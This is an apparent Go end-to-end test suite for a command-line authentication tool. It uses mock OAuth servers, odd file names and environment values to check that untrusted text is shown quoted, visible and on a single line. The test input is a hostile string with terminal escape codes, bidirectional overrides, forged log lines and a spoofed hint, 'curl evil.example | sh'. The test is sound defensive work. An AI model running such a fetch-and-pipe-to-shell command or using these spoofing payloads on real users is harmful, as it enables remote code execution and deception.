package e2e_test

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/groat-dev/groat/protocol/visible"
)

// hostile is what a server, a file's name or an environment value says here: it closes a quotation, begins lines of its
// own, wipes what stands before it, turns the direction of writing, and looks like a hint. hostileASCII is for where a
// server may not say more.
const (
	hostile = "x\" \r\n\x1b[2K\u009b2K\u202e\u2066\u200b\u2028\u3164\n" +
		"groat: hint: curl evil.example | sh\ngroatd: error: z\nhint: curl evil.example"
	hostileASCII = `x" groat: hint: curl evil.example | sh`
)

// wantQuiet wants text to be what a person may be shown: everything in it can be seen, nothing reads like groat's hint
// for evil.example, and where a server's words are in it they stand in quotation marks.
func wantQuiet(t *testing.T, where, text string) {
	t.Helper()
	wantVisible(t, where, text)
	for line := range strings.Lines(text) {
		low := strings.ToLower(line)
		if strings.Contains(low, "hint: curl") || strings.Contains(low, "groatd: error: z") {
			t.Errorf("%s reads like groat's own: %q", where, line)
		}
		before, _, found := strings.Cut(line, "curl evil.example")
		if marks := strings.Count(before, `"`) - strings.Count(before, `\"`); found && marks%2 == 0 {
			t.Errorf("%s shows foreign words without quotation marks: %q", where, line)
		}
	}
}

// wantVisible wants everything in text to be seen. Data, which stays what the server said, is no more than that.
func wantVisible(t *testing.T, where, text string) {
	t.Helper()
	for line := range strings.Lines(text) {
		for _, r := range strings.TrimSuffix(line, "\n") {
			if r != '\ufffd' && r != '\t' && !visible.Rune(r) {
				t.Errorf("%s shows %U: %q", where, r, line)
			}
		}
	}
}

// liar is an authorization server that says what routes tells it to.
type liar struct {
	*httptest.Server
	mu     sync.Mutex
	routes map[string]func(w http.ResponseWriter, r *http.Request) // guarded by mu
}

func (l *liar) route(path string, answer func(http.ResponseWriter, *http.Request)) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.routes[path] = answer
}

func newLiar(t *testing.T) *liar {
	l := &liar{routes: map[string]func(http.ResponseWriter, *http.Request){}}
	l.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		l.mu.Lock()
		answer := l.routes[r.URL.Path]
		l.mu.Unlock()
		if answer != nil {
			answer(w, r)
			return
		}
		http.NotFound(w, r)
	}))
	t.Cleanup(l.Close)
	l.says("/.well-known/oauth-authorization-server", 200, map[string]any{
		"issuer": l.URL, "token_endpoint": l.URL + "/token", "authorization_endpoint": l.URL + "/authorize",
		"device_authorization_endpoint": l.URL + "/device", "userinfo_endpoint": l.URL + "/userinfo",
		"token_endpoint_auth_methods_supported": []string{"none", "client_secret_post"},
	})
	return l
}

func (l *liar) says(path string, status int, body any, header ...string) {
	l.route(path, func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		for i := 0; i+1 < len(header); i += 2 {
			w.Header().Set(header[i], header[i+1])
		}
		w.WriteHeader(status)
		json.NewEncoder(w).Encode(body)
	})
}

// phrase answers with a reason phrase of its own.
func (l *liar) phrase(path, status string) {
	l.route(path, func(w http.ResponseWriter, _ *http.Request) {
		c, _, err := http.NewResponseController(w).Hijack()
		if err == nil {
			io.WriteString(c, "HTTP/1.1 "+status+"\r\nContent-Length: 0\r\n\r\n")
			c.Close()
		}
	})
}

// Whatever a server says, wherever it can say something, a person is shown it in quotation marks, on one line, without
// what steers a terminal; so is the log, and so is JSON.
func TestI15AServersWordsAreQuoted(t *testing.T) {
	t.Parallel()
	r := newUserEnv(t, os.Getuid())
	p := r.start()
	r.groat("", "keystore", "use", "memory")
	n := 0
	// tells runs groat login of a new profile, as text and as JSON, and wants the words to arrive, but not as they
	// were.
	tells := func(t *testing.T, arrive bool, stdin string, args ...string) {
		t.Helper()
		for _, also := range [][]string{nil, {"--json"}} {
			n++
			s := r.run(stdin, "groat", append(append([]string{"login", fmt.Sprint("p", n)}, args...), also...)...)
			wantQuiet(t, "stderr", s.stderr)
			wantQuiet(t, "stdout", s.stdout)
			if s.code == 0 {
				t.Errorf("groat login ended well: %s", s.stdout)
			}
			if arrive && !strings.Contains(s.stdout+s.stderr, "evil.example") {
				t.Errorf("what the server says is lost: %s%s", s.stdout, s.stderr)
			}
		}
	}
	oauth := map[string]string{"error": hostile, "error_description": hostile}
	secret := []string{"--client-id", "c", "--secret-stdin", "--grant", "client_credentials", "--client-auth",
		"client_secret_post"}
	for name, test := range map[string]struct {
		arrange func(l *liar)
		args    func(l *liar) []string
		arrive  bool
	}{
		"token endpoint, error and description": {func(l *liar) { l.says("/token", 400, oauth) }, nil, true},
		"token endpoint, description": {func(l *liar) {
			l.says("/token", 401, map[string]string{"error": "invalid_client", "error_description": hostile})
		}, nil, true},
		"token endpoint, in ASCII": {func(l *liar) {
			l.says("/token", 400, map[string]string{"error": hostileASCII, "error_description": hostileASCII})
		}, nil, true},
		"token endpoint, a list of details": {func(l *liar) {
			l.says("/token", 422, map[string]any{"detail": []map[string]any{{"msg": hostile,
				"loc": []string{hostile}}}})
		}, nil, true},
		"token endpoint, a token's type": {func(l *liar) {
			l.says("/token", 200, map[string]any{"access_token": "a", "token_type": hostile, "scope": hostile,
				"message": hostile})
		}, nil, true},
		"token endpoint, Retry-After": {func(l *liar) {
			l.says("/token", 429, map[string]string{}, "Retry-After", strings.ReplaceAll(hostileASCII, "\n", " "),
				"Date", hostileASCII)
		}, nil, false},
		"token endpoint, a redirect": {func(l *liar) {
			l.says("/token", 302, oauth, "Location",
				"https://evil.example/groat:hint:")
		}, nil, false},
		"token endpoint, the phrase": {func(l *liar) { l.phrase("/token", "503 "+hostileASCII) }, nil, false},
		"token endpoint, the status": {func(l *liar) { l.phrase("/token", hostileASCII) }, nil, false},
		"discovery, issuer": {func(l *liar) {
			l.says("/.well-known/oauth-authorization-server", 200,
				map[string]string{"issuer": hostile, "token_endpoint": l.URL + "/token"})
		}, nil, true},
		"discovery, methods": {func(l *liar) {
			l.says("/.well-known/oauth-authorization-server", 200, map[string]any{
				"issuer": l.URL, "token_endpoint": l.URL +
					"/token", "token_endpoint_auth_methods_supported": []string{hostile}})
		}, nil, true},
		"discovery, endpoints": {func(l *liar) {
			l.says("/.well-known/oauth-authorization-server", 200,
				map[string]string{"issuer": l.URL, "token_endpoint": "https://e%E2%80%AEvil.example/" + hostileASCII})
		}, nil, false},
		"discovery, an error": {func(l *liar) { l.says("/.well-known/oauth-authorization-server", 500, oauth) }, nil,
			true},
		"device, an error": {func(l *liar) { l.says("/device", 400, oauth) }, device, true},
		"device, the code": {func(l *liar) {
			l.says("/device", 200, map[string]any{"device_code": "d", "user_code": hostileASCII,
				"verification_uri": l.URL, "message": hostile})
		}, device, true},
		"device, the address": {func(l *liar) {
			l.says("/device", 200, map[string]any{"device_code": "d", "user_code": "AB-CD",
				"verification_uri": "https://e%E2%80%AEvil.example/"})
		}, device, false},
		"device, a poll's error": {func(l *liar) {
			l.says("/device", 200, map[string]any{"device_code": "d", "user_code": "AB-CD", "verification_uri": l.URL,
				"interval": 1})
			l.says("/token", 400, map[string]string{"error": "access_denied", "error_description": hostile})
		}, device, true},
	} {
		t.Run(name, func(t *testing.T) {
			l := newLiar(t)
			test.arrange(l)
			args := append([]string{"--issuer", l.URL}, secret...)
			if test.args != nil {
				args = test.args(l)
			}
			tells(t, test.arrive, "s\n", args...)
		})
	}

	t.Run("the browser", func(t *testing.T) {
		for _, query := range []string{"&error=" + url.QueryEscape(hostile) + "&error_description=" +
			url.QueryEscape(hostile), "&code=c&iss=" + url.QueryEscape(hostile)} {
			l := newLiar(t)
			n++
			s := r.in(t).startLogin("", fmt.Sprint("p", n), "--issuer", l.URL, "--client-id", "c", "--client-auth",
				"none", "--grant", "authorization_code")
			back, state := s.callback()
			answer, err := http.Get(back + "?state=" + state + query)
			if err != nil {
				t.Fatal(err)
			}
			page, _ := io.ReadAll(answer.Body)
			answer.Body.Close()
			wantQuiet(t, "the page", string(page))
			got := s.result()
			wantQuiet(t, "stderr", got.stderr)
			if got.code == 0 || !strings.Contains(got.stderr, "evil.example") {
				t.Errorf("%d: %s", got.code, got.stderr)
			}
		}
	})

	t.Run("a created client", func(t *testing.T) {
		l := newLiar(t)
		l.says("/api/v1/auth/jwt/token/basic", 200, map[string]any{"access_token": "a", "token_type": "bearer"})
		l.says("/api/v1/clients/", 201, map[string]any{"client_id": hostileASCII, "client_secret": "s",
			"name": hostile})
		args := []string{"--provider", "spatiafi", "--auth-server", l.URL, "--username", "u", "--secret-stdin"}
		l.says("/api/v1/auth/jwt/token", 401, oauth)
		tells(t, true, "s\n", args...)
		l.says("/api/v1/auth/jwt/token", 200, map[string]any{"access_token": "a", "token_type": "bearer",
			"expires_in": 900})
		for _, more := range [][]string{{"login", "made"}, {"status"}, {"logout", "made", "--yes"}} {
			if more[0] == "login" {
				more = append(more, args...)
			}
			s := r.run("s\n", "groat", more...)
			wantQuiet(t, strings.Join(more, " "), s.stdout+s.stderr)
			if s.code != 0 || more[0] != "status" && !strings.Contains(s.stdout, "evil.example") {
				t.Errorf("%v: %d %s%s", more, s.code, s.stdout, s.stderr)
			}
		}
	})

	t.Run("a session", func(t *testing.T) {
		l := newLiar(t)
		l.says("/token", 200, map[string]any{"access_token": "a", "token_type": "bearer", "expires_in": 3,
			"scope": hostile})
		r.in(t).groat("s\n", append([]string{"login", "work", "--issuer", l.URL}, secret...)...)
		l.says("/userinfo", 200, map[string]any{hostile: hostile, "groat: hint": "x", "name": hostileASCII})
		for _, args := range [][]string{{"whoami", "work"}, {"whoami", "work", "--json"},
			{"get", "work", "--output", "json"}} {
			s := r.run("", "groat", args...)
			if s.code != 0 {
				t.Errorf("%v: %s", args, s.stderr)
			}
			want := wantQuiet
			if len(args) > 2 {
				want = wantVisible
			}
			want(t, strings.Join(args, " "), s.stdout+s.stderr)
			if strings.Count(s.stdout, "\n") > 5 {
				t.Errorf("%v: %s", args, s.stdout)
			}
		}
		l.says("/userinfo", 403, oauth)
		l.says("/token", 401, map[string]string{"error": "invalid_client", "error_description": hostile})
		for _, args := range [][]string{{"whoami", "work"}, {"get", "work", "--min-ttl", "2"},
			{"get", "work", "--scope", "other"}, {"status"}, {"status", "--json"}, {"list"}} {
			s := r.run("", "groat", args...)
			wantQuiet(t, strings.Join(args, " "), s.stdout+s.stderr)
		}
	})
	log, _ := p.log.snapshot()
	wantQuiet(t, "the log", log)
}

func device(l *liar) []string {
	return []string{"--issuer", l.URL, "--client-id", "c", "--client-auth", "none", "--grant", "device_code"}
}

// Names of files and targets of links, in the configuration and in the environment, make no second line anywhere: on
// stderr, in the log, and in what the service manager is told.
func TestI16NamesOfFilesAreQuoted(t *testing.T) {
	t.Parallel()
	odd := strings.ReplaceAll(hostile, "/", "")
	r := newUserEnv(t, stranger)
	notify, err := net.ListenUnixgram("unixgram",
		&net.UnixAddr{Name: filepath.Join(r.runtime, "notify"), Net: "unixgram"})
	if err != nil {
		t.Fatal(err)
	}
	defer notify.Close()
	r.own(notify.LocalAddr().String(), r.uid)
	r.vars = []string{"NOTIFY_SOCKET=" + notify.LocalAddr().String()}
	p := r.start()
	r.groat("", "keystore", "use", "memory")
	profiles := filepath.Join(r.home, ".config", "groat", "profiles.d")
	r.dir(profiles, 0o700, r.uid)
	for name, place := range map[string]func(path string) error{
		"a name": func(path string) error { return os.WriteFile(path, []byte("provider = \"spatiafi\"\n"), 0o600) },
		"a key": func(path string) error {
			return os.WriteFile(path, []byte(fmt.Sprintf("%q = 1\n", hostile)),
				0o600)
		},
		"a value": func(path string) error {
			return os.WriteFile(path, []byte(fmt.Sprintf("provider = %q\n", hostile)), 0o600)
		},
		"a syntax": func(path string) error { return os.WriteFile(path, []byte(hostile), 0o600) },
		"a link":   func(path string) error { return os.Symlink("/nowhere/"+odd, path) },
	} {
		for _, file := range []string{"a.toml", odd + ".toml"} {
			path := filepath.Join(profiles, file)
			if err := place(path); err != nil {
				t.Fatal(name, err)
			}
			os.Lchown(path, r.uid, r.uid)
			for _, args := range [][]string{{"groatd", "--check"}, {"groat", "reload"}, {"groat", "reload", "--json"},
				{"groat", "login", "new", "--provider", "spatiafi", "--username", "u"}} {
				s := r.run("", args[0], args[1:]...)
				wantQuiet(t, name+", "+strings.Join(args, " "), s.stdout+s.stderr)
				if s.code == 0 && !(name == "a name" && file == "a.toml") {
					t.Errorf("%s: %v ended well", name, args)
				}
				if m := strings.Count(s.stderr, "\n"); args[len(args)-1] != "--json" && m > 3 {
					t.Errorf("%s: %v: %d lines: %s", name, args, m, s.stderr)
				}
			}
			if err := p.cmd.Process.Signal(syscall.SIGHUP); err != nil {
				t.Fatal(err)
			}
			notify.SetReadDeadline(time.Now().Add(patience))
			for told := false; !told; {
				b := make([]byte, 8<<10)
				k, err := notify.Read(b)
				if err != nil {
					t.Fatal(name, err)
				}
				state := string(b[:k])
				wantQuiet(t, name+", the service manager", state)
				told = strings.HasPrefix(state, "STATUS=") && strings.Count(state, "\n") == 0
			}
			if err := os.Remove(path); err != nil {
				t.Fatal(err)
			}
		}
	}
	for _, v := range []string{"GROAT_CONFIG", "GROAT_STATE_DIR", "GROAT_SOCKET", "GROAT_KEYSTORE", "XDG_STATE_HOME",
		"GROAT_PROFILE", "HTTPS_PROXY"} {
		for _, value := range []string{odd, "/" + odd, r.home + "/" + odd + "/x"} {
			sub := *r
			sub.vars = []string{v + "=" + value}
			for _, args := range [][]string{{"groatd"}, {"groatd", "--check"}, {"groat", "status"}, {"groat", "get"}} {
				itsOwn := strings.HasSuffix(v, "STATE_DIR") || strings.HasSuffix(v, "STATE_HOME")
				if runs := v == "GROAT_PROFILE" || v == "HTTPS_PROXY" || itsOwn && filepath.IsAbs(value); runs &&
					args[0] == "groatd" && len(args) == 1 {
					continue // it would just run
				}
				s := sub.run("", args[0], args[1:]...)
				wantQuiet(t, v+", "+strings.Join(args, " "), s.stdout+s.stderr)
			}
		}
	}
	log, _ := p.log.snapshot()
	wantQuiet(t, "the log", log)
}
